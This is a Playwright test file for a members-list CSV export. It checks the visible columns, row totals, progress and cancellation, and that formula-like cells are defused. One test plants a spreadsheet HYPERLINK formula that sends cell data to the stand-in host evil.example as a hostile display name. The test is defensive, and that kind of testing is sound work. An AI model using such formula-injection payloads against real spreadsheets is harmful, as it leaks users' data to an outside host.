import { expect, test } from './fixtures';
import { apiMembers, dataTable, headerLabels, readCsv, rowNames } from './table-helpers';

/** "Export CSV" on the members page: every row of the filter, the visible columns, defused. */
const MEMBERS = '/spaces/general/members';

test.describe('space members export', () => {
  test('exports every row of the filter as CSV with the visible columns', async ({
    adminPage: page,
    adminApi,
  }) => {
    await page.goto(MEMBERS);
    await page.getByText('Columns', { exact: true }).click();
    await page.getByRole('checkbox', { name: 'Points' }).uncheck();
    await expect(dataTable(page).getByRole('columnheader', { name: 'Points' })).toHaveCount(0);
    const visible = await headerLabels(page);

    const downloading = page.waitForEvent('download');
    await page.getByRole('button', { name: 'Export CSV' }).click();
    const download = await downloading;
    expect(download.suggestedFilename()).toMatch(/^members-general-active-\d{4}-\d{2}-\d{2}\.csv$/);
    const { raw, records } = await readCsv(download);
    expect(raw.startsWith('\uFEFF')).toBe(true);
    const [header, ...rows] = records;
    expect(header!.map((label) => label.toLowerCase())).toEqual(visible);

    const all = await apiMembers(adminApi, 'general', { per_page: 100 });
    expect(rows).toHaveLength(all.members.total);
    await expect(page.getByRole('status').filter({ hasText: 'Exported' })).toContainText(
      `Exported ${all.members.total} members`,
    );
    // Every text cell that a spreadsheet would run as a formula is defused with a quote.
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    const names = new Set(rows.map((row) => row[0]));
    for (const member of all.members.data) {
      const name = member.xprofile?.display_name ?? '';
      expect(names.has(/^[=+\-@\t\r]/.test(name) ? `'${name}` : name)).toBe(true);
    }
  });

  test('defuses a formula-looking cell in the export', async ({ adminPage: page }) => {
    // Hostile data from a site: a display name that a spreadsheet would run as a formula.
    const formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")';
    await page.route('**/fluent-community/v2/spaces/design-club/members?*', async (route) => {
      const response = await route.fetch();
      const body = (await response.json()) as Awaited<ReturnType<typeof apiMembers>>;
      const first = body.members.data[0];
      if (first?.xprofile) first.xprofile.display_name = formula;
      await route.fulfill({ response, json: body });
    });
    await page.goto('/spaces/design-club/members');
    await expect(rowNames(page).first()).toHaveText(formula);
    const downloading = page.waitForEvent('download');
    await page.getByRole('button', { name: 'Export CSV' }).click();
    const { raw, records } = await readCsv(await downloading);
    expect(records[1]![0]).toBe(`'${formula}`);
    expect(raw).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click me"")"`);
  });

  test('shows the progress of the walk and can be cancelled', async ({ adminPage: page }) => {
    await page.goto(MEMBERS);
    await expect(rowNames(page)).toHaveCount(20);
    // Slow pages of 100, so the walk is still running when Cancel is pressed.
    await page.route(/\/spaces\/general\/members\?.*per_page=100/, async (route) => {
      await new Promise((resolve) => setTimeout(resolve, 1500));
      await route.continue().catch(() => undefined);
    });
    let downloads = 0;
    page.on('download', () => (downloads += 1));

    await page.getByRole('button', { name: 'Export CSV' }).click();
    const progress = page.getByRole('status').filter({ has: page.getByRole('progressbar') });
    await expect(progress.getByRole('progressbar', { name: 'Export progress' })).toBeVisible();
    await expect(progress).toContainText(/Page 1 of \d+/);
    await progress.getByRole('button', { name: 'Cancel export' }).click();
    await expect(page.getByText('Export cancelled: nothing was downloaded.')).toBeVisible();
    await expect(page.getByRole('button', { name: 'Export CSV' })).toBeEnabled();
    expect(downloads).toBe(0);
  });
});
